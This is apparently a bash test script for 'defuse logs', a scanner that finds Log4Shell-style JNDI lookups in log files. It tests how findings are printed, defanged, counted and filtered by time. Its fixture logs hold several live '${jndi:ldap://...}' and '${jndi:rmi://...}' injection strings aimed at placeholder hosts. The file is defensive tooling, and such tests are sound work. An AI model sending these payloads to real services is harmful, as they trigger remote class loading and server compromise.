#!/usr/bin/env bash
# logs_output.sh -- how `defuse logs` shows what it found, as rg users
# expect: --line (the matching line, defanged, bounded; "text" in JSON),
# -l (files with findings), -c (findings per file), --heading (the file
# name once above its findings), --since/--until (the line's own time; a
# line without one is kept), and their errors.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
printf '%s\n' \
  '192.0.2.1 - - [09/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://early.example/a} HTTP/1.1" 404 0' \
  '192.0.2.2 - - [10/Dec/2021:13:00:00 +0000] "GET /${jndi:ldap://late.example/a} HTTP/1.1" 404 0' \
  'no time here ${jndi:ldap://notime.example/a}' > a.log
printf 'x ${jndi:rmi://b.example/z}\n' > b.log
printf 'nothing\n' > c.log
python3 -c 'print("${jndi:ldap://long.example/a} " + "A" * 3000)' > long.log

"$DEFUSE" logs --line a.log > out.txt; expect_rc 1 $? "--line"
expect_grep '    192[.]0[.]2[.]1 - - [09/Dec/2021:13:00:00 +0000] "GET /$\{jndi:ldap[:]//early[.]example/a} HTTP/1.1" 404 0' \
  out.txt "--line shows the matching line, defanged, under its finding"
expect_nogrep '${' out.txt "--line: no live \${"
"$DEFUSE" logs --line long.log > out.txt
expect_grep '...[2518 more bytes]' out.txt "--line: a long line is cut at 512 bytes, the rest counted"
"$DEFUSE" logs --json --line b.log > out.json
python3 -c '
import json; o = json.loads(open("out.json").readline())
assert o["text"] == "x ${jndi:rmi://b.example/z}" and o["line"] == 1, o' \
  && ok "--line --json: the line in \"text\"" || fail "--line --json"
expect_nogrep '$' out.json "--line --json: \$ written as \\u0024"

"$DEFUSE" logs -l a.log b.log c.log > out.txt; expect_rc 1 $? "-l"
[ "$(cat out.txt)" = "$(printf 'a.log\nb.log')" ] && ok "-l: each file with findings once" || fail "-l: $(cat out.txt)"
"$DEFUSE" logs -c a.log b.log c.log > out.txt; expect_rc 1 $? "-c"
[ "$(cat out.txt)" = "$(printf 'a.log:3\nb.log:1')" ] && ok "-c: findings per file" || fail "-c: $(cat out.txt)"
"$DEFUSE" logs -c --json a.log > out.txt
expect_grep '{"file":"a.log","count":3}' out.txt "-c --json"
"$DEFUSE" logs -l -c a.log 2> err.txt; expect_rc 2 $? "-l with -c refused"
"$DEFUSE" logs --heading a.log b.log > out.txt
[ "$(head -2 out.txt)" = "$(printf 'a.log\n1: jndi ldap[:]//early[.]example/a src=192.0.2.1')" ] \
  && ok "--heading: the file once, then LINE: finding" || fail "--heading: $(head -3 out.txt)"
grep -qx 'b.log' out.txt && ok "--heading: the second file's heading" || fail "--heading: no heading for b.log"

"$DEFUSE" logs --since 2021-12-10 a.log > out.txt
expect_nogrep 'early' out.txt "--since: an earlier line is left out"
expect_grep 'late' out.txt "--since: a later line is kept"
expect_grep 'notime' out.txt "--since: a line without a time is kept"
"$DEFUSE" logs --until '2021-12-10T00:00:00Z' a.log > out.txt
expect_grep 'early' out.txt "--until keeps the earlier line"
expect_nogrep 'late' out.txt "--until leaves out the later line"
"$DEFUSE" logs --since 2021-12-11 a.log > /dev/null; expect_rc 1 $? "--since: the kept line without a time still counts"
"$DEFUSE" logs --since 100000d a.log > out.txt; expect_rc 1 $? "--since relative (100000d ago)"
expect_grep 'early' out.txt "--since 100000d keeps 2021"
"$DEFUSE" logs --since soon a.log 2> err.txt; expect_rc 2 $? "--since bad value"
expect_grep "--since: cannot read 'soon'" err.txt "--since error names the option and value"
finish
